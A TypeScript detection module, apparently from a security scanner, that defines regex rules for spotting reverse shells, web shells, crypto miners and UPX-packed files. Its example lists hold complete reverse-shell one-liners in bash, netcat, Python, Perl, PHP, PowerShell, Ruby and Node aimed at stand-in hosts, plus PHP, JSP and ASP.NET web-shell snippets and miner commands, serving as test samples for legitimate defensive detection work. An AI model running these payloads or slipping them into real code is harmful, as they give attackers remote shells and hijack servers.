// Signs of a compromise in contents, found in the same pass as secrets and told by rules of their own: what a reverse shell, a web
// shell or a miner is written like, by what it does. https://attack.mitre.org/matrices/enterprise/containers/
import type { Checked, Detector, Found, Sample } from './detector.ts'

/** The rule that tells of a sign. */
type IndicatorRule = 'reverse-shell' | 'web-shell' | 'crypto-miner' | 'packed-executable'

interface Sign {
  readonly how: string
  readonly literals: readonly (string | { readonly text: string; readonly ignoreCase: true })[]
  readonly pattern: RegExp
  readonly window?: number
  readonly check?: (found: Found) => Checked | null
  readonly examples: readonly Sample[]
  readonly quiet?: readonly Sample[]
}

/** @param how in a few words: what finds say of it */
const sign = (
  rule: IndicatorRule,
  name: string,
  { how, literals, pattern, window = 512, check, examples, quiet }: Sign,
): Detector => ({
  id: `${rule}:${name}`,
  issuer: '',
  title: how,
  opens: '',
  revoke: '',
  docs: 'https://attack.mitre.org/',
  strength: 'likely',
  isIndicator: true,
  literals: literals.map((literal) => (typeof literal === 'string' ? { text: literal } : literal)),
  pattern,
  window,
  examples,
  ...(quiet === undefined ? {} : { quiet }),
  ...(check === undefined ? {} : { check }),
})

const anyCase = (text: string) => ({ text, ignoreCase: true as const })

/** The line of a match, as far as it is seen. */
const lineOf = ({ before, value, after }: Found): string =>
  `${before.slice(before.lastIndexOf('\n') + 1)}${value}${/^[^\n]{0,300}/.exec(after)?.[0] ?? ''}`

const REVERSE_SHELLS: readonly Detector[] = [
  sign('reverse-shell', 'bash', {
    how: 'bash hands a shell to a connection (/dev/tcp)',
    literals: ['/dev/tcp/', '/dev/udp/'],
    pattern: /\/dev\/(?:tcp|udp)\/[^\s/;'"]{1,80}\/[^\s;'"&|)]{1,12}/y,
    examples: [
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      '* * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
      'exec 5<>/dev/tcp/203.0.113.9/4444;cat <&5 | while read line; do $line 2>&5 >&5; done',
      '0<&196;exec 196<>/dev/tcp/evil.acme/443; sh <&196 >&196 2>&196',
      'sh -i >& /dev/udp/203.0.113.9/53 0>&1',
    ],
    quiet: [
      'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done',
      'exec 6<>/dev/tcp/localhost/8080; echo -e "GET /health HTTP/1.0\\r\\n" >&6; cat <&6',
      'timeout 1 bash -c "</dev/tcp/$host/$port"',
    ],
    // A check of a port opens one too: only a shell that reads from it, or runs what it reads, is one.
    check: (found) =>
      /\b(?:ba|z|k|da|a)?sh\s+-i\b|0>&1|0<&1|\b(?:ba|z|k|da|a)?sh\s{1,3}<&\d|while\s+read[^\n]{0,60}do\s+(?:\$|eval|sh|bash)/.test(
        lineOf(found),
      )
        ? {}
        : null,
  }),
  sign('reverse-shell', 'netcat', {
    how: 'netcat hands a shell to a connection',
    literals: [
      'e /bin/sh',
      'e /bin/bash',
      'c /bin/sh',
      'c /bin/bash',
      ' -e sh',
      ' -e bash',
      ' -c bash',
      '--sh-exec',
      'e /bin/ash',
      '--exec',
    ],
    pattern:
      /(?<=(?<![\w-])(?:nc|ncat|netcat)(?:\.traditional|\.openbsd)?\s[^\n;|&]{0,70})(?:(?<=-[a-z]{0,6})[ec]|\s-[a-z]{0,6}[ec]|--(?:sh-)?exec)\s{1,3}["']?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a|k)?sh\b/y,
    examples: [
      'nc 203.0.113.9 4444 -e /bin/sh',
      'nc -lvpe /bin/bash 203.0.113.9',
      'ncat --ssl evil.acme 443 -c bash',
      'ncat -l 4444 --sh-exec /bin/sh',
      'nc.traditional -e /bin/bash 203.0.113.9 1',
    ],
    quiet: ['nc -z db 5432 || exit 1', 'docker exec -c bash', 'su - app -c /bin/sh', 'func -e /bin/sh'],
  }),
  sign('reverse-shell', 'pipe', {
    how: 'a named pipe ties a shell to a connection',
    literals: ['mkfifo ', 'mknod '],
    pattern:
      /mk(?:fifo|nod)\s[^\n]{1,200}?\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b[^\n|]{0,80}\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b/y,
    examples: [
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f',
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | sh | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s',
    ],
    quiet: ['mkfifo /run/log.pipe && tail -f /run/log.pipe | sh /filter.sh'],
  }),
  sign('reverse-shell', 'pipes', {
    how: 'a shell stands between two connections',
    literals: ['|/bin/sh', '| /bin/sh', '|/bin/bash', '| /bin/bash', '| sh ', '| bash ', '|sh|', '|bash|'],
    pattern:
      /(?<=(?<![\w.-])(?:nc|ncat|netcat|telnet|openssl\s+s_client)\s[^\n;|&]{2,80})\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b(?:[^\n|;]{0,40}\|\s{0,3}(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b|\s{0,3}1?>\s{0,3}[\w./-]{1,40})/y,
    examples: [
      'telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445',
      'openssl s_client -quiet -connect 203.0.113.9:443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 203.0.113.9:444',
      'mknod backpipe p && nc 203.0.113.9 443 0<backpipe | /bin/bash 1>backpipe',
    ],
    quiet: ['echo quit | openssl s_client -connect db:443 | sh parse.sh', 'nc -z db 5432 || sh wait.sh'],
  }),
  sign('reverse-shell', 'awk', {
    how: 'awk runs what a connection sends',
    literals: ['/inet/tcp/0/'],
    pattern: /\/inet\/tcp\/0\/[^"'\s]{3,80}["'][\s\S]{0,300}?(?:\|&\s{0,3}getline|system\()/y,
    examples: [
      'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(1) { do { printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s } while(c != "exit") }}\'',
    ],
    quiet: ['service = "/inet/tcp/0/localhost/25"'],
  }),
  sign('reverse-shell', 'python', {
    how: 'Python ties a shell to a socket',
    literals: ['.fileno()'],
    pattern:
      /(?<=dup2\(\s{0,3}[\w.]{1,40})\.fileno\(\)\s{0,3},\s{0,3}0\s{0,3}\)[\s\S]{0,400}?(?:pty\.spawn|subprocess\.(?:call|Popen|run)|os\.(?:system|exec\w{1,3}))\(\s{0,3}\[?\s{0,3}["'](?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b/y,
    window: 800,
    examples: [
      'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])',
      "s.connect((h, 1))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nimport pty\npty.spawn('/bin/bash')\n",
    ],
    quiet: ['os.dup2(devnull.fileno(), 0)\nos.dup2(log.fileno(), 1)\n'],
  }),
  sign('reverse-shell', 'perl', {
    how: 'Perl ties a shell to a socket',
    literals: ['open(STDIN,'],
    pattern:
      /open\(STDIN,\s{0,3}["'][<>]{1,2}&\w{1,20}["']\)[\s\S]{0,200}?exec\s{0,3}(?:\{|\()?\s{0,3}["']\/bin\/(?:ba)?sh/y,
    examples: [
      'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
    ],
    quiet: ['open(STDIN,"</dev/null");'],
  }),
  sign('reverse-shell', 'php', {
    how: 'PHP hands a shell to a socket',
    literals: ['fsockopen('],
    pattern:
      /fsockopen\([^)\n]{3,100}\);?[\s\S]{0,300}?(?:exec|shell_exec|system|passthru|popen|proc_open)\(\s{0,3}["'](?:\/bin\/)?(?:ba)?sh\b/y,
    window: 800,
    examples: ['php -r \'$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''],
    quiet: ['$fp = fsockopen($host, 80);\nfwrite($fp, "GET / HTTP/1.0");\n'],
  }),
  sign('reverse-shell', 'socat', {
    how: 'socat ties a shell to a connection',
    literals: [anyCase('exec:')],
    pattern: /(?<=socat\s[^\n]{0,85})exec:["'\\]{0,2}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b/iy,
    examples: [
      'socat TCP:203.0.113.9:4444 EXEC:/bin/sh,pty,stderr',
      "socat exec:'bash -li',pty,stderr,setsid openssl-connect:203.0.113.9:443",
    ],
    quiet: ['socat -u FILE:/x EXEC:/usr/bin/tool', 'socat UNIX-LISTEN:/s EXEC:bash-helper.py'],
    check: (found) => (/\b(?:tcp|udp|openssl|sctp)[\w-]{0,12}:/i.test(lineOf(found)) ? {} : null),
  }),
  sign('reverse-shell', 'powershell', {
    how: 'PowerShell runs what a connection sends',
    literals: [anyCase('Net.Sockets.TCPClient(')],
    pattern: /Net\.Sockets\.TCPClient\([^)\n]{3,80}\)[\s\S]{0,600}?(?:\biex\b|Invoke-Expression)/iy,
    window: 1024,
    examples: [
      "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$r=(iex $d 2>&1 | Out-String)}",
    ],
    quiet: ["$c = New-Object System.Net.Sockets.TCPClient('db', 5432); $c.Close()"],
  }),
  sign('reverse-shell', 'ruby', {
    how: 'Ruby ties a shell to a socket',
    literals: ['TCPSocket.'],
    pattern:
      /TCPSocket\.(?:new|open)\([^)\n]{3,80}\)[\s\S]{0,200}?exec\s{0,3}\(?(?:sprintf\(?\s?)?["']\/bin\/(?:ba)?sh/y,
    examples: [
      'ruby -rsocket -e \'f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'',
    ],
    quiet: ["s = TCPSocket.new('db', 5432)\nexec 'bundle'"],
  }),
  sign('reverse-shell', 'node', {
    how: 'Node.js ties a shell to a socket',
    literals: [
      'spawn("/bin/sh"',
      "spawn('/bin/sh'",
      'spawn("/bin/bash"',
      "spawn('/bin/bash'",
      'spawn("sh"',
      "spawn('sh'",
    ],
    pattern:
      /spawn\(["'](?:\/bin\/)?(?:ba)?sh["'][\s\S]{0,300}?(?:\.connect\(|net\.Socket)[\s\S]{0,200}?\.pipe\(\w{1,20}\.std/y,
    window: 800,
    examples: [
      'var cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"203.0.113.9",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});',
    ],
    quiet: ['const sh = spawn("sh", ["-c", command]); sh.stdout.pipe(process.stdout)'],
  }),
]

/** What a request sends, in PHP. */
const INPUT = String.raw`\$_(?:GET|POST|REQUEST|COOKIE)\s?\[`

const WEB_SHELLS: readonly Detector[] = [
  sign('web-shell', 'php', {
    how: 'PHP runs what a request sends',
    literals: ['$_GET', '$_POST', '$_REQUEST', '$_COOKIE'],
    pattern: new RegExp(
      String.raw`(?<=(?<![\w>$:])(?:eval|assert|system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|create_function|call_user_func)\s{0,3}\(\s{0,3}(?:@?(?:base64_decode|gzinflate|gzuncompress|str_rot13|stripslashes|urldecode|trim)\s{0,2}\(\s{0,3}){0,3}@?)${INPUT}`,
      'y',
    ),
    examples: [
      '<?php system($_GET["cmd"]); ?>',
      '<?php @eval($_POST["x"]);',
      "<?php eval(base64_decode($_REQUEST['q']));",
      '<?php passthru(@$_COOKIE[0]);',
    ],
    quiet: [
      '<?php echo htmlspecialchars($_GET["q"]);',
      '<?php $db->exec($_POST["x"]);',
      "<?php $filesystem = filesystem($_GET['x']);",
      '<?php Loader::system($_GET["x"]);',
    ],
  }),
  sign('web-shell', 'php-backtick', {
    how: 'PHP runs what a request sends',
    literals: ['$_GET', '$_POST', '$_REQUEST', '$_COOKIE'],
    pattern: /(?<=(?:echo|print|=|<\?=|\()\s{0,3}`[^`\n]{0,40}\{?)\$_(?:GET|POST|REQUEST|COOKIE)\b[^`\n]{0,60}`/y,
    examples: ['<?php echo `$_GET[c]`; ?>', "<?= `{$_REQUEST['c']}` ?>"],
    quiet: ['<?php // reads `$_GET[c]` of the page', 'SELECT `a` = $_GET[b]'],
  }),
  sign('web-shell', 'node', {
    how: 'Node.js runs what a request sends',
    literals: ['req.query', 'req.body', 'req.params', 'request.query', 'request.body'],
    pattern:
      /(?<=(?<![\w.])(?:(?:child_process|cp)\.)?(?:exec|execSync|spawn|spawnSync|eval)\(\s{0,3})(?:req|request)\.(?:query|body|params)\b/y,
    examples: ['exec(req.query.cmd, done)', 'eval(req.body.code)'],
    quiet: ['pattern.exec(req.query.q)', 'const q = req.query.q'],
  }),
  sign('web-shell', 'php-call', {
    how: 'PHP calls the function that a request names',
    literals: ['$_GET', '$_POST', '$_REQUEST', '$_COOKIE'],
    pattern: /\$_(?:GET|POST|REQUEST|COOKIE)\s?\[[^\]\n]{1,30}\]\s{0,2}\(\s{0,2}@?\$_(?:GET|POST|REQUEST|COOKIE)/y,
    examples: ['<?php $_GET["a"]($_POST["b"]); ?>', '<?php @$_REQUEST[0]($_REQUEST[1]);'],
    quiet: ['<?php if ($_GET["a"] == ($_POST["b"])) {}'],
  }),
  sign('web-shell', 'php-packed', {
    how: 'PHP runs code that it unpacks several times',
    literals: ['eval(gz', 'eval(str_rot13(', 'eval(base64_decode(', '@eval(', 'eval (gz'],
    pattern:
      /eval\s?\(\s{0,3}(?:gzinflate|gzuncompress|str_rot13)\s{0,2}\(\s{0,3}(?:(?:gzinflate|gzuncompress|str_rot13|strrev)\s{0,2}\(\s{0,3}){0,3}base64_decode\s{0,2}\(\s{0,3}["']/y,
    examples: [
      "<?php eval(gzinflate(base64_decode('{b64:60}')));",
      "<?php eval(str_rot13(gzinflate(base64_decode('{b64:60}'))));",
    ],
    quiet: ["<?php $x = gzinflate(base64_decode('{b64:60}'));"],
  }),
  sign('web-shell', 'jsp', {
    how: 'JSP runs what a request sends',
    literals: ['request.getParameter('],
    pattern: /(?<=(?:\.exec\(|ProcessBuilder\(|\.eval\()[^;\n]{0,60})request\.getParameter\(/y,
    examples: [
      '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
      '<% new ProcessBuilder("sh", "-c", request.getParameter("c")).start(); %>',
    ],
    quiet: ['<% String name = request.getParameter("name"); %>'],
  }),
  sign('web-shell', 'aspx', {
    how: 'ASP.NET runs what a request sends',
    literals: [
      anyCase('Request.Item['),
      anyCase('Request.Form['),
      anyCase('Request.QueryString['),
      anyCase('Request["'),
    ],
    pattern:
      /(?<=(?:\beval\s?\(|Process\.Start\(|\bexecute\s?\(?)[^;\n]{0,60})Request(?:\.(?:Item|Form|QueryString))?\[/iy,
    examples: [
      '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
      'Process.Start("cmd.exe", "/c " + Request["c"])',
    ],
    quiet: ['var name = Request.Form["name"];'],
  }),
  sign('web-shell', 'python', {
    how: 'Python runs what a request sends',
    literals: ['request.args', 'request.form', 'request.values', 'request.GET', 'request.POST'],
    pattern:
      /(?<=(?<![\w.])(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|getoutput)|eval|exec)\(\s{0,3})(?:flask\.)?request\.(?:args|form|values|GET|POST)\b/y,
    examples: ["return os.popen(request.args.get('cmd')).read()", "exec(request.form['code'])"],
    quiet: ["name = request.args.get('name')", "db.exec(request.args['x'])"],
  }),
]

const POOLS = [
  'pool.minexmr.com',
  'xmrpool.eu',
  'supportxmr.com',
  'nanopool.org',
  '2miners.com',
  'moneroocean.stream',
  'hashvault.pro',
  'c3pool.',
  'minergate.com',
  'unmineable.com',
  'herominers.com',
  'monerohash.com',
  'kryptex.network',
]

const MINERS: readonly Detector[] = [
  sign('crypto-miner', 'stratum', {
    how: 'it talks to a mining pool (stratum)',
    literals: [
      'stratum+tcp://',
      'stratum+ssl://',
      'stratum+tls://',
      'stratum+udp://',
      'stratum1+tcp://',
      'stratum1+ssl://',
      'stratum2+tcp://',
      'stratum2+ssl://',
    ],
    pattern:
      /stratum[12]?\+(?:tcp|ssl|tls|udp):\/\/(?!(?:example|your|pool\.example|host|server)\b)[A-Za-z0-9][A-Za-z0-9.-]{2,80}(?::\d{2,5})/y,
    examples: ['xmrig -o stratum+tcp://pool.acme.io:3333 -u x', '"url": "stratum+ssl://203.0.113.9:443"'],
    quiet: ['stratum+tcp://%s:%d', 'stratum+tcp://example.com:3333', 'supports stratum+tcp:// and stratum+ssl://'],
  }),
  sign('crypto-miner', 'pool', {
    how: 'it names a mining pool',
    literals: POOLS,
    pattern:
      /(?:pool\.minexmr\.com|xmrpool\.eu|supportxmr\.com|nanopool\.org|2miners\.com|moneroocean\.stream|hashvault\.pro|c3pool\.(?:com|org)|minergate\.com|unmineable\.com|herominers\.com|monerohash\.com|kryptex\.network):\d{2,5}(?!\d)/y,
    examples: ['-o xmr-eu1.nanopool.org:14444', 'gulf.moneroocean.stream:10128'],
    quiet: ['https://nanopool.org/help', '0.0.0.0 xmrpool.eu'],
  }),
  sign('crypto-miner', 'algorithm', {
    how: 'it starts a miner',
    literals: ['cryptonight', 'randomx', 'rx/0', 'ethash', 'kawpow', 'autolykos2'],
    pattern:
      /(?<=(?:\s-a|\s--algo(?:rithm)?)[\s=]{1,3}|"algo"\s{0,3}:\s{0,3}")(?:cryptonight|randomx|rx\/0|ethash|kawpow|autolykos2)\b/y,
    examples: ['minerd -a cryptonight -o pool.acme.io:3333', '{"algo": "rx/0", "coin": "monero"}'],
    quiet: ['the algorithms cryptonight and randomx', 'ethash --verify'],
  }),
  sign('crypto-miner', 'xmrig', {
    how: 'it is XMRig, or set up for it',
    literals: ['"donate-level"', '--donate-level', 'XMRig/', 'XMRig %'],
    pattern: /"donate-level"\s{0,3}:\s{0,3}\d{1,2}\b|--donate-level[\s=]{1,3}\d{1,2}\b|XMRig\/[%\d]|XMRig %/y,
    examples: [
      '{"autosave": true, "donate-level": 1, "pools": []}',
      './kworker --donate-level 1 -k',
      'ABOUT XMRig/6.21.0 gcc',
    ],
    quiet: ['the donate-level of a miner', '--donate-level=N'],
  }),
]

/** All signs, found in any content. */
export const INDICATORS: readonly Detector[] = [
  ...REVERSE_SHELLS,
  ...WEB_SHELLS,
  ...MINERS,
  sign('packed-executable', 'upx', {
    how: 'it is packed with UPX',
    literals: ['UPX!'],
    pattern: /UPX!(?=[\s\S]{8})/y,
    examples: ['\x7fELF\0\0\0\0UPX!\r\x0e\x02\x08\0\0\0\0\0\0\0\0'],
    quiet: ['packed with UPX! See the manual'],
    check: ({ isText }) => (isText ? null : {}),
  }),
]

/** The rule of a sign: `reverse-shell` of `reverse-shell:bash`. */
export const ruleOfIndicator = (detector: string): string => detector.split(':')[0] ?? ''

/** What a sign says, by its id. */
export const indicatorOf = (id: string): Detector | null => INDICATORS.find((each) => each.id === id) ?? null

/** Signs in a text that is in memory, such as a command of the history. */
export function indicatorsIn(text: string): readonly { readonly detector: Detector; readonly at: number }[] {
  const folded = text.toLowerCase()
  return INDICATORS.flatMap((detector) =>
    detector.literals.flatMap((literal) => {
      const { text: sought, ignoreCase = false } = typeof literal === 'string' ? { text: literal } : literal
      const [within, needle] = ignoreCase ? [folded, sought.toLowerCase()] : [text, sought]
      for (let at = within.indexOf(needle); at !== -1; at = within.indexOf(needle, at + 1)) {
        const { pattern } = detector
        pattern.lastIndex = at
        const match = pattern.exec(text)
        if (match === null) continue
        const found = {
          value: match[0],
          groups: match.groups ?? {},
          before: text.slice(Math.max(0, at - 96), at),
          after: text.slice(at + match[0].length, at + match[0].length + 512),
          path: '',
          isText: true,
        }
        if (detector.check === undefined || detector.check(found) !== null) return [{ detector, at }]
      }
      return []
    }),
  )
}
